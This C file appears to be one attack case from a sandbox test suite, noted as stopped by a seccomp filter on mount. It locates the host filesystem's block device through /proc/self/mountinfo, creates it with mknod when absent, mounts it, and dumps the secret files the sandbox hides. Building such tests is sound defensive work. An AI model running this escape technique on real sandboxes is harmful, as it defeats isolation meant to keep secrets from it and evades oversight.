// attack: escape: mount the host's root filesystem again (its block device, found in /proc/self/mountinfo, made with mknod if absent) and read the secrets from the fresh, unhidden mount
// stopped by: seccomp(mount)
#define _GNU_SOURCE
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

#include <sys/sysmacros.h>

int main(void) {
    const char *secrets = secret_paths();
    if (!secrets) { fprintf(stderr, "SECRETS and HOME not set\n"); return 2; }
    char list[8192];
    snprintf(list, sizeof list, "%s", secrets);
    char *first = strtok(list, ":");
    struct stat st;
    if (!first || stat(first, &st) < 0) {
        // Hidden: take the device of the directory above it.
        char dir[8192];
        snprintf(dir, sizeof dir, "%s", first ? first : "/");
        while (strlen(dir) > 1 && stat(dir, &st) < 0) *strrchr(dir, '/') = 0;
        if (strlen(dir) > 1) *strrchr(dir, '/') = 0;
        if (stat(dir[0] ? dir : "/", &st) < 0) return 1;
    }
    // The mount of that device whose root is "/" (the whole filesystem), and its source and type.
    FILE *mi = fopen("/proc/self/mountinfo", "r");
    char line[4096], source[1024] = "", fstype[64] = "", mountpoint[1024] = "";
    while (mi && fgets(line, sizeof line, mi)) {
        unsigned maj, mnr;
        char root[1024], mp[1024];
        if (sscanf(line, "%*d %*d %u:%u %1023s %1023s", &maj, &mnr, root, mp) != 4) continue;
        if (makedev(maj, mnr) != st.st_dev) continue;
        char *dash = strstr(line, " - ");
        if (dash) sscanf(dash + 3, "%63s %1023s", fstype, source);
        snprintf(mountpoint, sizeof mountpoint, "%s", mp);
        if (strcmp(root, "/") == 0) break;
    }
    if (mi) fclose(mi);
    printf("secret's filesystem: dev %u:%u, %s (%s), mounted at %s\n", major(st.st_dev), minor(st.st_dev), source, fstype, mountpoint);
    if (access(source, F_OK) < 0) {
        snprintf(source, sizeof source, "escape-blockdev");
        unlink(source);
        errno = 0;
        long r = mknod(source, S_IFBLK | 0600, st.st_dev);
        printf("mknod(%s, block %u:%u) -> %ld (%s)\n", source, major(st.st_dev), minor(st.st_dev), r, r < 0 ? strerror(errno) : "success");
    }
    mkdir("escape-fs", 0755);
    errno = 0;
    long r = mount(source, "escape-fs", fstype, 0, NULL);
    printf("mount(%s, escape-fs, %s) -> %ld (%s)\n", source, fstype, r, r < 0 ? strerror(errno) : "success");
    fflush(stdout);
    char all[8192];
    snprintf(all, sizeof all, "%s", secrets);
    char *save = NULL;
    for (char *s = strtok_r(all, ":", &save); s; s = strtok_r(NULL, ":", &save)) {
        char path[8192];
        snprintf(path, sizeof path, "escape-fs%s", s + (strcmp(mountpoint, "/") == 0 ? 0 : strlen(mountpoint)));
        dump("fresh mount", path);
    }
    umount2("escape-fs", MNT_DETACH);
    return 0;
}
